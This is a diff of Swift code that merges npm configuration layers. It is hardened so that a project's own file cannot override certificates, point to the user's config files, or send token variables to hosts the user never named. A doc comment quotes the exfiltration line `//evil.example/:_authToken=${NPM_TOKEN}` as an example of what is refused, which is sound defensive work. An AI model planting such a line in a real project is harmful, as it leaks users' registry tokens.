@@ -5,17 +5,15 @@ extension RegistryConfiguration {
     /// Merges layers, the first of which wins, as npm does.
     ///
     /// A project's file is written by whoever writes the project, and a pull request may change it. So it may not weaken
-    /// what the user set up (certificates), and may use variables only for an origin that the user's own layers or the
-    /// default registry name: `//evil.example/:_authToken=${NPM_TOKEN}` would send a token away. What is refused is said
-    /// in `notices`.
+    /// what the user set up (certificates, the user's own files), and may use variables only for an origin that the user's
+    /// own layers or the default registry name: `//evil.example/:_authToken=${NPM_TOKEN}` would send a token away. Nor may
+    /// it put them into the path of a registry, which is shown and recorded. What is refused is said in `notices`.
     ///
     /// - Parameter variables: what `${NAME}` stands for.
     package init(layers: [ConfigurationLayer], variables: [String: String]) {
         self.init()
         var reader = ConfigurationReader(variables: variables, trusted: Self.trustedOrigins(layers, variables))
-        for layer in layers {
-            for entry in layer.entries { reader.read(entry, from: layer) }
-        }
+        for layer in layers { reader.read(layer) }
         reader.finish(into: &self)
     }
 
@@ -26,9 +24,8 @@ extension RegistryConfiguration {
         if let standard = WebAddress(Endpoints.defaultRegistry) { origins.insert(standard.origin) }
         for layer in layers where layer.kind != .project {
             for entry in layer.entries {
-                let key = VariableExpansion(entry.key, variables).text
-                let value = VariableExpansion(entry.value, variables).text
-                let address = CredentialKey(key)?.nerfDart.https ?? UserInfo(splitting: value).address
+                let (key, value) = layer.expanded(entry, variables)
+                let address = CredentialKey(key.text)?.nerfDart.https ?? UserInfo(splitting: value.text).address
                 if let origin = WebAddress(address)?.origin { origins.insert(origin) }
             }
         }
@@ -38,11 +35,17 @@ extension RegistryConfiguration {
 
 /// Collects settings layer by layer.
 struct ConfigurationReader {
+    /// What layers say, by key.
+    private struct Values {
+        var settings: [String: String] = [:]
+        var scopes: [String: String] = [:]
+        var credentials: [NerfDart: [CredentialKey.Field: String]] = [:]
+        var directHosts: [String] = []
+    }
+
     let variables: [String: String]
     let trusted: Set<WebAddress.Origin>
-    private var settings: [String: String] = [:]
-    private var scopes: [String: String] = [:]
-    private var credentials: [NerfDart: [CredentialKey.Field: String]] = [:]
+    private var values = Values()
     private var embedded: [(address: WebAddress, authorization: Secret)] = []
     private var certificates: [String] = []
     private var notices: [String] = []
@@ -52,26 +55,50 @@ struct ConfigurationReader {
         self.trusted = trusted
     }
 
-    mutating func read(_ entry: NPMRC.Entry, from layer: ConfigurationLayer) {
-        let key = VariableExpansion(entry.key, variables)
-        let value = VariableExpansion(entry.value, variables)
+    /// Within a layer the last value of a key counts, among layers that of the first; what is empty says nothing.
+    mutating func read(_ layer: ConfigurationLayer) {
+        var own = Values()
+        notices += layer.notices
+        for entry in layer.entries { read(entry, from: layer, into: &own) }
+        // `null` switches a proxy off, and is no registry.
+        let settings = own.settings.filter { $0.key == "registry" ? Self.isSet($0.value) : !$0.value.isEmpty }
+        values.settings.merge(settings) { first, _ in first }
+        values.scopes.merge(own.scopes.filter { Self.isSet($0.value) }) { first, _ in first }
+        values.credentials.merge(own.credentials) { first, other in first.merging(other) { first, _ in first } }
+        if values.directHosts.isEmpty { values.directHosts = own.directHosts }
+    }
+
+    private mutating func read(_ entry: NPMRC.Entry, from layer: ConfigurationLayer, into values: inout Values) {
+        let (key, value) = layer.expanded(entry, variables)
         let place = entry.line == 0 ? layer.name : "\(layer.name): line \(entry.line)"
         if layer.kind == .project, let reason = refusal(of: key, value) {
             notices.append("\(place): \(reason)")
             return
         }
         if key.text.hasPrefix("//") {
-            readCredential(key.text, value, place)
-        } else if key.text.hasPrefix("@"), key.text.hasSuffix(":registry") {
-            let scope = String(key.text.dropFirst().dropLast(":registry".count))
-            if scopes[scope] == nil { scopes[scope] = withoutUserInfo(value.text) }
+            guard let (dart, field) = credential(key.text, value, place) else { return }
+            // Yarn takes a name and a password as they are, too.
+            let isPlain = layer.syntax == .yarn && field == .auth && value.text.contains(":")
+            values.credentials[dart, default: [:]][field] = isPlain ? Base64.encode(Array(value.text.utf8)) : value.text
+        } else if let scope = Self.scope(key.text) {
+            values.scopes[scope] = value.text
         } else if key.text == "ca" || key.text == "ca[]" {
             if Self.isSet(value.text) { certificates.append(Self.withLineFeeds(value.text)) }
+        } else if key.text == "noproxy" || key.text == "noproxy[]" {
+            let hosts = Self.hosts(value.text)
+            values.directHosts = key.text == "noproxy" ? hosts : values.directHosts + hosts
         } else if ["_auth", "_authToken", "_password", "username"].contains(key.text) {
             notices.append("\(place): `\(key.text)` without a registry is not used; write `//host/:\(key.text)`")
-        } else if settings[key.text] == nil {
-            settings[key.text] = key.text == "registry" ? withoutUserInfo(value.text) : value.text
+        } else {
+            values.settings[key.text] = value.text
         }
+    }
+
+    /// The scope whose registry a key names; nil for other keys.
+    private static func scope(_ key: String) -> String? {
+        let suffix = ":registry"
+        guard key.hasPrefix("@"), key.hasSuffix(suffix) else { return nil }
+        return String(key.dropFirst().dropLast(suffix.count))
     }
 
     /// Why an entry of a project's file is not used; nil for what it may say.
@@ -79,37 +106,47 @@ struct ConfigurationReader {
         switch key.text {
         case "strict-ssl" where value.text == "false", "ca", "ca[]", "cafile":
             return "`\(key.text)` decides whom to trust, which a project's file may not; set it in your own"
+        case "userconfig", "globalconfig", "prefix":
+            return "`\(key.text)` decides where your own configuration is, which a project's file may not"
         default: break
         }
         guard key.usesVariables || value.usesVariables else { return nil }
-        let address = CredentialKey(key.text)?.nerfDart.https ?? UserInfo(splitting: value.text).address
-        guard let origin = WebAddress(address)?.origin else {
+        let isRegistry = key.text == "registry" || Self.scope(key.text) != nil
+        if isRegistry, key.usesVariables || value.usesVariablesInPath {
+            return "would put a variable into a path or a scope, which are shown and recorded; refused"
+        }
+        let dart = CredentialKey(key.text)?.nerfDart
+        guard let origin = WebAddress(dart?.https ?? UserInfo(splitting: value.text).address)?.origin else {
             // No address, so that nothing is sent anywhere, or none that could be judged.
-            return key.text.hasPrefix("//") || key.text.hasSuffix("registry") || key.text.hasSuffix("proxy")
+            return key.text.hasPrefix("//") || isRegistry || key.text.hasSuffix("proxy")
                 ? "uses a variable in an address that cannot be read; refused" : nil
         }
-        let isTrusted = trusted.contains { $0.host == origin.host && $0.port == origin.port }
+        // The key of a credential has no scheme; it is sent over TLS alone, or to this machine.
+        let isTrusted =
+            dart == nil
+            ? trusted.contains(origin) : trusted.contains { $0.host == origin.host && $0.port == origin.port }
         return isTrusted
             ? nil : "would send a variable to a host that your own configuration does not name; refused"
     }
 
-    private mutating func readCredential(_ key: String, _ value: VariableExpansion, _ place: String) {
-        guard let key = CredentialKey(key) else { return }
+    /// What a key beginning with `//` says, where that can be used.
+    private mutating func credential(
+        _ key: String, _ value: VariableExpansion, _ place: String
+    ) -> (NerfDart, CredentialKey.Field)? {
+        guard let key = CredentialKey(key) else { return nil }
         guard WebAddress(key.nerfDart.https) != nil else {
             notices.append("\(place): names no registry and is not used")
-            return
+            return nil
         }
         if let name = value.missing.first {
             notices.append("\(place): the variable `\(name)` is not set; the credential is not used")
-            return
+            return nil
         }
         guard value.text.utf8.allSatisfy({ (0x20...0x7E).contains($0) }) else {
             notices.append("\(place): the credential has characters that none has; it is not used")
-            return
+            return nil
         }
-        if credentials[key.nerfDart]?[key.field] == nil {
-            credentials[key.nerfDart, default: [:]][key.field] = value.text
-        }
+        return (key.nerfDart, key.field)
     }
 
     /// An address as it is used; what it has of a user name and a password becomes a credential for it.
@@ -122,15 +159,16 @@ struct ConfigurationReader {
     }
 
     mutating func finish(into configuration: inout RegistryConfiguration) {
-        if let registry = settings["registry"] { configuration.registry = registry }
-        configuration.scopedRegistries = scopes
+        let settings = values.settings
+        if let registry = settings["registry"] { configuration.registry = withoutUserInfo(registry) }
+        for (scope, registry) in values.scopes { configuration.scopedRegistries[scope] = withoutUserInfo(registry) }
         configuration.certificates = certificates
         if let file = settings["cafile"], Self.isSet(file) { configuration.certificateFiles = [file] }
         configuration.verifiesTLS = settings["strict-ssl"] != "false"
         configuration.httpsProxy = proxy("https-proxy", "HTTPS_PROXY", "https_proxy") ?? proxy("proxy")
         configuration.httpProxy = proxy("http-proxy") ?? proxy("proxy", "HTTP_PROXY", "http_proxy")
-        let direct = settings["noproxy"] ?? variables["NO_PROXY"] ?? variables["no_proxy"] ?? ""
-        configuration.noProxy = direct.split { $0 == "," || $0 == " " }.map { $0.lowercased() }
+        let direct = variables["NO_PROXY"] ?? variables["no_proxy"] ?? ""
+        configuration.noProxy = values.directHosts.isEmpty ? Self.hosts(direct) : values.directHosts
         addCredentials(to: &configuration)
         if !configuration.verifiesTLS {
             notices.append("`strict-ssl` is off: nobody vouches for the servers that are asked")
@@ -140,8 +178,8 @@ struct ConfigurationReader {
 
     private mutating func addCredentials(to configuration: inout RegistryConfiguration) {
         // A nerf dart leaves out the scheme: `https`, and `http` too if a registry that is used is at that place.
-        let used = ([configuration.registry] + scopes.values).compactMap(WebAddress.init)
-        for (dart, fields) in credentials.sorted(by: { precedesBytewise($0.key.text, $1.key.text) }) {
+        let used = ([configuration.registry] + configuration.scopedRegistries.values).compactMap(WebAddress.init)
+        for (dart, fields) in values.credentials.sorted(by: { precedesBytewise($0.key.text, $1.key.text) }) {
             guard let authorization = Self.authorization(fields) else { continue }
             for address in [dart.https, dart.http].compactMap(WebAddress.init)
             where address.origin.isSecure || used.contains(where: { $0.origin == address.origin }) {
@@ -155,7 +193,7 @@ struct ConfigurationReader {
     }
 
     private func proxy(_ setting: String, _ names: String...) -> Secret? {
-        for value in [settings[setting]] + names.map({ variables[$0] }) {
+        for value in [values.settings[setting]] + names.map({ variables[$0] }) {
             if let value, Self.isSet(value), value != "false" { return Secret(value) }
         }
         return nil
@@ -170,6 +208,10 @@ struct ConfigurationReader {
     }
 
     private static func isSet(_ value: String) -> Bool { !value.isEmpty && value != "null" }
+
+    private static func hosts(_ text: String) -> [String] {
+        text.split { $0 == "," || $0 == " " }.map { $0.lowercased() }
+    }
 
     private static func withLineFeeds(_ text: String) -> String {
         text.split(separator: "\\n", omittingEmptySubsequences: false).joined(separator: "\n")
